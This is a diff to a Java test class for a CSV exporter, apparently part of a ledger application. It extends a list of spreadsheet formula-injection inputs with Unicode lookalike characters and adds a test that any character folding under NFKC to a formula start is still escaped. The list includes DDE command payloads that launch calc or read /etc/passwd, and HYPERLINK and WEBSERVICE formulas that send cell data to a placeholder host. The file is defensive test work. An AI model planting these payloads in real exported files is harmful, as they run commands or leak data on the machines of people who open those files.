@@ -3,10 +3,12 @@ package nl.vierogen.ledger.export;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.math.BigDecimal;
+import java.text.Normalizer;
 import java.time.Instant;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Optional;
+import java.util.stream.IntStream;
 import net.jqwik.api.ForAll;
 import net.jqwik.api.Property;
 import org.junit.jupiter.api.Test;
@@ -18,7 +20,9 @@ class CsvTest {
     /** What people have put in cells to make a spreadsheet calculate, call or phone home. */
     static final List<String> HOSTILE = List.of("=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1",
             "   =1+1", "\u00A0=1+1", "\u200B=1+1", "\"=1+1\"", "'=1+1", "\"\"\"=1+1", " \" =1+1", "\u201C=1+1",
-            "\uFF1D1+1", "\uFF0B1+1", "\uFF0D1+1", "\uFF20SUM(A1)", "\u22121+1", "\n=1+1", "\uFEFF=1+1",
+            "\uFF1D1+1", "\uFF0B1+1", "\uFF0D1+1", "\uFF20SUM(A1)", "\uFE621+1", "\uFE631+1", "\uFE661+1",
+            "\uFE6BSUM(A1)", "\u207A1", "\u208C1", "\uFB291",
+            " \u2A751", "\u22121+1", "\n=1+1", "\uFEFF=1+1",
             "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://x.invalid?\"&A1;\"klik\")", "=WEBSERVICE(\"http://x.invalid\")",
             "=DDE(\"soffice\";\"/etc/passwd\";\"x\")", "@=1+1", "+-=1", "-2+3+cmd|' /C calc'!D2", "=1+1;=2+2",
             "=\"a\"\";\"=1", "--1", "=\n1+1");
@@ -56,6 +60,17 @@ class CsvTest {
         assertThat(List.of(row.get(0).endsWith(one), row.get(1).endsWith(other))).containsOnly(true);
         assertThat(row).allSatisfy(cell -> assertThat(cell.strip()).doesNotStartWith("=").doesNotStartWith("+")
                 .doesNotStartWith("-").doesNotStartWith("@"));
+    }
+
+    /** Whatever is folded to a formula by NFKC, which some programs do to what they read. */
+    @Test
+    void noCharacterIsFoldedToTheStartOfAFormula() {
+        List<String> through = IntStream.rangeClosed(0, Character.MAX_CODE_POINT)
+                .filter(one -> one < Character.MIN_SURROGATE || one > Character.MAX_SURROGATE)
+                .mapToObj(Character::toString)
+                .filter(one -> "=+-@\u2212".indexOf(Normalizer.normalize(one, Normalizer.Form.NFKC).charAt(0)) >= 0)
+                .filter(one -> !new Csv().text(one + "1+1").toString().startsWith("\"'")).toList();
+        assertThat(through).isEmpty();
     }
 
     /** A reader of its own making: rows of cells, quotes taken off. */
